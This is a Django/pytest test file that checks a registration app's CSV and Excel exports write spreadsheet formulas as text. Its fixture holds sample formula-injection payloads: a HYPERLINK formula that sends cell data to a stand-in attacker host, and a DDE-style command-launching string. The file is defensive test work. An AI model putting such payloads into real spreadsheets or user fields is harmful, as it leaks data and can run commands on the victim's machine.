"""Formulas in exports (issue 14, item 5): whatever a registrant types, every export writes it
as text. A cell starting with =, +, -, @, tab or CR is a formula to a spreadsheet; read back,
the CSV cell starts with a single quote and the Excel cell is a string, not a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from meetings.models import Person
from registrations.models import Invitation, Registration, RegistrationSettings
from registrations.services import mailing_overview, mailings
from registrations.services import registration as services
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("http://angriber.example/?d="&A1,"klik")',
    "phone": "+45 20 30 40 50",
    "party_letter": "-",
    "dietary_needs": "@SUM(1+1)*cmd|' /C calc'!A0",
    "comment": "\t=1+1",
}
CARRIAGE_RETURN = "\r=1+1"


@pytest.fixture
def meeting():
    meeting = factories.meeting()
    RegistrationSettings.objects.create(meeting=meeting, summary_email="sekretariat@kl.dk")
    services.register(meeting, factories.registration_data(1, **HOSTILE))
    services.register(meeting, factories.registration_data(2, comment=CARRIAGE_RETURN))
    person = Person.objects.create(name=HOSTILE["name"], email="ole@example.dk")
    Invitation.objects.create(meeting=meeting, person=person)
    return meeting


def read_csv(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def assert_text_cells(rows):
    """Every hostile value is there, as text: with its quote in front."""
    cells = {cell for row in rows for cell in row}
    for value in [*HOSTILE.values(), CARRIAGE_RETURN]:
        assert "'" + value in cells, value
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def post_action(client, changelist, action, model):
    ids = [str(pk) for pk in model.objects.values_list("pk", flat=True)]
    response = client.post(changelist, {"action": action, "_selected_action": ids})
    assert response.status_code == 200
    return response.content


def test_the_csv_export_writes_formulas_as_text(admin_client, meeting):
    content = post_action(
        admin_client, "/admin/registrations/registration/", "export_csv", Registration
    )
    assert_text_cells(read_csv(content))


def test_the_excel_export_writes_formulas_as_strings(admin_client, meeting):
    content = post_action(
        admin_client, "/admin/registrations/registration/", "export_xlsx", Registration
    )
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    for cell in cells:
        assert cell.data_type != "f", cell.value
    values = {cell.value for cell in cells}
    for value in [*HOSTILE.values(), CARRIAGE_RETURN]:
        assert value in values or "'" + value in values, value


def test_the_invitation_links_csv_writes_formulas_as_text(admin_client, meeting):
    content = post_action(
        admin_client, "/admin/registrations/invitation/", "export_links", Invitation
    )
    rows = read_csv(content)
    assert rows[1][0] == "'" + HOSTILE["name"]
    assert rows[1][4].startswith("http")


def test_the_csv_attached_to_the_summary_mailing_writes_formulas_as_text(meeting):
    _reg_settings, summary = mailing_overview.find(meeting, "summary")
    files = {name: content for name, content, _mimetype in mailings.attachments(meeting, summary)}
    (csv_name,) = [name for name in files if name.endswith(".csv")]
    assert_text_cells(read_csv(files[csv_name]))
